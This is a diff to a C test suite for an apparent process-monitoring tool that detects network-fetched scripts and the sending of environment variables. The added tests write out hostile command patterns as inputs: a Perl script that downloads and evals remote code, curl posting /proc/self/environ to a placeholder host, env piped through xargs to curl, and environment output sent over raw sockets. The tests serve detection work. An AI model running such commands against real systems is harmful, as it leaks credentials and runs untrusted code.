@@ -434,7 +434,7 @@ static void test_python_text_at_connect(void **state)
 	unlink(path);
 	connect_judged(w, py, 443);
 	assert_int_equal(info_of(w, py).script_prov, BW_PROV_NETWORK);
-	/* one that only fetches; the same text run by perl is not read */
+	/* one that only fetches; Python's text read as Perl's evaluates nothing */
 	temp_script(dir, path, sizeof(path), "helper.py",
 		    "import urllib.request as u\nprint(u.urlopen(URL).status)\n");
 	py = fork_of(w, shell);
@@ -449,6 +449,15 @@ static void test_python_text_at_connect(void **state)
 	exec_as(w, py, "/usr/bin/perl", ARGV("perl", path), 0, 0, NULL);
 	connect_judged(w, py, 443);
 	assert_int_equal(info_of(w, py).script_prov, 0);
+	unlink(path);
+	rmdir(dir);
+	/* a Perl script is read at its first connect, not at its exec */
+	temp_script(dir, path, sizeof(path), "fetch-deps.pl",
+		    "use HTTP::Tiny;\nmy $r = HTTP::Tiny->new->get($ARGV[0]);\neval $r->{content};\n");
+	py = fork_of(w, shell);
+	exec_as(w, py, "/usr/bin/perl", ARGV("perl", path), 0, 0, NULL);
+	connect_judged(w, py, 443);
+	assert_int_equal(info_of(w, py).script_prov, BW_PROV_NETWORK);
 	unlink(path);
 	rmdir(dir);
 	/* python3 - <<EOF in a bash -c program: the pipe only its shell writes */
@@ -1080,6 +1089,49 @@ static void test_environment_sent(void **state)
 	exec_as(w, env, "/usr/bin/env", ARGV("env", "-u", "HOME"), 0, 57, NULL);
 	exec_as(w, sort, "/usr/bin/sort", ARGV("sort"), 57, 0, NULL);
 	assert_int_equal(info_of(w, sort).stdin_prov, BW_PROV_PIPE | BW_PROV_ENVIRONMENT);
+	assert_int_equal(info_of(w, sort).sends_prov, 0);
+
+	/* curl given an environ file itself; env | xargs -I{} curl -d {} URL */
+	curl = fork_of(w, shell);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "@/proc/self/environ", "http://x/c"), 0,
+		0, NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "--data-binary", "@/proc/self/status", "http://x"),
+		0, 0, NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, 0);
+	env = fork_of(w, shell);
+	filter = fork_of(w, shell);
+	exec_as(w, env, "/usr/bin/env", ARGV("env", "-0"), 0, 60, NULL);
+	exec_as(w, filter, "/usr/bin/xargs", ARGV("xargs", "-0", "-I{}", "curl", "-d", "{}", "http://x"),
+		60, 0, NULL);
+	curl = fork_of(w, filter);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-d", "HOME=/root", "http://x"), 0, 0, NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, BW_PROV_ENVIRONMENT);
+	filter = fork_of(w, shell);
+	exec_as(w, filter, "/usr/bin/xargs", ARGV("xargs", "-n1", "curl", "-O"), 0, 0, NULL);
+	curl = fork_of(w, filter);
+	exec_as(w, curl, "/usr/bin/curl", ARGV("curl", "-O", "http://x/a.tgz"), 0, 0, NULL);
+	assert_int_equal(info_of(w, curl).sends_prov, 0);
+
+	/* env > /dev/tcp/HOST/PORT, and through a filter; ls there is no dump */
+	env = fork_of(w, shell);
+	exec_as(w, env, "/usr/bin/env", ARGV("env"), 0, 0, NULL);
+	env->stdio[1].kind = BW_STDIO_SOCKET;
+	env->stdio[1].family = AF_INET;
+	assert_int_equal(info_of(w, env).sends_prov, BW_PROV_ENVIRONMENT);
+	filter = fork_of(w, shell);
+	env = fork_of(w, shell);
+	exec_as(w, filter, "/usr/bin/base64", ARGV("base64", "-w0"), 59, 0, NULL);
+	filter->stdio[1].kind = BW_STDIO_SOCKET;
+	filter->stdio[1].family = AF_INET6;
+	assert_int_equal(info_of(w, filter).sends_prov, 0);
+	exec_as(w, env, "/usr/bin/printenv", ARGV("printenv"), 0, 59, NULL);
+	assert_true(rejudged(w, filter));
+	assert_int_equal(info_of(w, filter).sends_prov, BW_PROV_ENVIRONMENT);
+	sort = fork_of(w, shell);
+	exec_as(w, sort, "/usr/bin/ls", ARGV("ls", "-l"), 0, 0, NULL);
+	sort->stdio[1].kind = BW_STDIO_SOCKET;
+	sort->stdio[1].family = AF_INET;
 	assert_int_equal(info_of(w, sort).sends_prov, 0);
 }
 
